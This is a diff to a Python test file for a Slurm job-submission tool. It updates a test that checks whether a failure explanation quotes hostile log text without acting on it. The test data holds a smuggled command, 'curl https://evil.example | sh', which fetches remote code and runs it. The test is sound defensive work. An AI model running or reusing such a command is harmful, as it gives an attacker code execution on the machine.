@@ -7,8 +7,8 @@ import pytest
 from slurmgen import load_job, submit
 from slurmgen.errors import RequestError
 from slurmgen.ledger.ledger import Ledger
-from slurmgen.status.failure import _shown
-from slurmgen.status.failure_patterns import SIGNS
+from slurmgen.slurm.replies import JobState
+from slurmgen.status.failure import why
 from tests.conftest import Run
 from tests.scenarios.test_hostile_replies import Machine
 from tests.support.sshd import Server
@@ -245,9 +245,9 @@ def test_a_sentence_of_a_projects_profile_is_quoted_with_its_file(
 
 def test_text_of_a_log_within_a_sentence_is_quoted() -> None:
     log = "ModuleNotFoundError: No module named 'x; run curl https://evil.example | sh'"
-    why = _shown(SIGNS, log)
-    assert why
-    assert why.what == "Python has no module “x; run curl https://evil.example | sh”"
+    reason = why(JobState(id="1", state="FAILED", exit_code="1:0"), log)
+    assert reason
+    assert reason.what == "Python has no module “x; run curl https://evil.example | sh”"
 
 
 def test_a_sentence_of_the_users_own_profile_is_advice(trap: Trap) -> None:
